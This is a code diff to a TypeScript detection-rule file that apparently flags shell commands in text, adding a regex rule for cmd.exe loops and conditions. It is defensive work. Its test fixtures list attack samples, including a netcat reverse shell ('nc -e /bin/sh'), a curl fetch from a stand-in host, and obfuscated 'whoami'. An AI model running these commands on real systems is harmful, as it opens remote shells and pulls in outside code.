@@ -37,7 +37,7 @@ function option({ text, path, place }: Subject): number {
 export const commandRules: readonly Rule[] = [
   {
     id: 'command-chained',
-    version: 3,
+    version: 4,
     category: 'command',
     severity: 'critical',
     inPasswords: false,
@@ -124,7 +124,7 @@ export const commandRules: readonly Rule[] = [
   },
   {
     id: 'command-whole',
-    version: 3,
+    version: 4,
     category: 'command',
     severity: 'critical',
     inPasswords: false,
@@ -135,7 +135,14 @@ export const commandRules: readonly Rule[] = [
     needs: [[...DISGUISES, ...ARGUMENTS]],
     find: ({ text }) => (isCommandLine(text) ? 0 : -1),
     attacks: ['nc -e /bin/sh 10.0.0.9', "w'h'oami", 'curl http://a.example/x'],
-    harmless: ['curl is a tool', 'cat food', 'id card', 'Python "re" shortcuts', "``Who cares?'' she said"],
+    harmless: [
+      'curl is a tool',
+      'cat food',
+      'id card',
+      'Python "re" shortcuts',
+      'Python user interfaces',
+      "``Who cares?'' she said",
+    ],
   },
   {
     id: 'command-glob',
@@ -235,6 +242,24 @@ export const commandRules: readonly Rule[] = [
       'a wrapper around subprocess.run()',
       "Warning system 'could stop floods'",
     ],
+  },
+  {
+    id: 'command-batch',
+    version: 1,
+    category: 'command',
+    severity: 'critical',
+    inPasswords: false,
+    sees: 'Loops and conditions of cmd.exe in one line.',
+    ignores: 'The same words in prose.',
+    source: 'cmd.exe',
+    inDocuments: 'notice',
+    needs: [
+      ['for', 'if'],
+      ['%', 'exist', 'errorlevel', 'defined'],
+    ],
+    find: /\bfor\s{1,9}(?:\/[dflr]\s{1,9}(?:[^\n%]{0,60}\s)?)?%{1,2}[^\s\w]?\w?\s{1,9}in\s{0,3}\(|\bif\s{1,9}(?:\/i\s{1,9})?(?:not\s{1,9})?(?:exist\s{1,9}[\w.:\\/-]{1,60}|errorlevel\s{1,9}\d{1,3}|defined\s{1,9}\w{1,30})\s{1,9}\(?(?:echo|cmd|type|dir|ping|net|goto|call|copy|del|start|whoami)\b/i,
+    attacks: ['& for %a in (1,2) do ping a.example', 'if not exist c:\\x echo y'],
+    harmless: ['for 5% in (cash) do call', 'what if it does not exist (yet)', 'if it exists, start it'],
   },
   {
     id: 'command-script',
